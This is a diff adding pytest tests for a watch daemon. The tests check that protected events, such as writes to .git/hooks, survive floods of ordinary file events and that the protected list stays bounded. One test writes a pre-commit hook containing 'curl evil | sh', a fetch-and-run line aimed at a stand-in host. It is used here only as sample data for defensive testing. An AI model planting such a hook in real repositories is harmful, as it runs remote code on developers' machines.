@@ -1,0 +1,69 @@
+"""Protected events are not evicted by ordinary ones (issue 13, finding 5): the watch
+service keeps them in their own bounded list. A real watcher over a real directory; the
+ordinary ring is made small (500) so that 1,500 ordinary files prove the principle in a
+few seconds (the daemon's ring holds 10,000, the protected list 2,000)."""
+
+from __future__ import annotations
+
+import asyncio
+
+import pytest
+from daemon_harness import workspace
+
+from console.daemon.events import EventHub
+from console.daemon.policy_source import PolicySource
+from console.daemon.watch_service import WatchService
+from console.store import Store
+
+
+@pytest.fixture
+async def service(tmp_path):
+    policy = tmp_path / "policy.toml"
+    policy.write_text('tripwire = "alert"\n')
+    source = PolicySource(policy)
+    source.reload()
+    store = Store.open(tmp_path / "history.db")
+    svc = WatchService(source, store, EventHub(), recent_size=500, protected_size=50)
+    await svc.start()
+    yield svc
+    await svc.close()
+    store.close()
+
+
+async def wait_until(cond, timeout=10.0):
+    loop = asyncio.get_running_loop()
+    deadline = loop.time() + timeout
+    while not cond():
+        assert loop.time() < deadline, "timed out"
+        await asyncio.sleep(0.02)
+
+
+async def test_ordinary_events_do_not_evict_protected_ones(service, tmp_path):
+    ws = workspace(tmp_path / "w")
+    root = str(ws)
+    await service.ensure_root(root)
+    (ws / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
+    await wait_until(lambda: any(r["path"] == ".git/hooks/pre-commit" for r in service.protected))
+    out = ws / "out"
+    out.mkdir()
+    for i in range(1500):
+        (out / f"f{i}.txt").write_bytes(b"x")
+    await wait_until(lambda: sum(1 for r in service.recent if r["path"].startswith("out/f")) >= 450)
+    await service.watcher.flush(root)
+    assert all(not r["protected"] for r in service.recent)  # the ring holds ordinary ones only now
+    protected = service.recent_records(protected_only=True)
+    assert [r["path"] for r in protected] == [".git/hooks/pre-commit"]
+    merged = service.recent_records()
+    assert merged[-1]["path"] == ".git/hooks/pre-commit"  # oldest, still listed
+    assert service.status()["protected_kept"] == 1
+
+
+async def test_the_protected_list_is_bounded(service, tmp_path):
+    ws = workspace(tmp_path / "w")
+    root = str(ws)
+    await service.ensure_root(root)
+    hooks = ws / ".git" / "hooks"
+    for i in range(80):
+        (hooks / f"h{i}").write_text("x\n")
+    await wait_until(lambda: any(r["path"] == ".git/hooks/h79" for r in service.protected))
+    assert len(service.protected) == 50
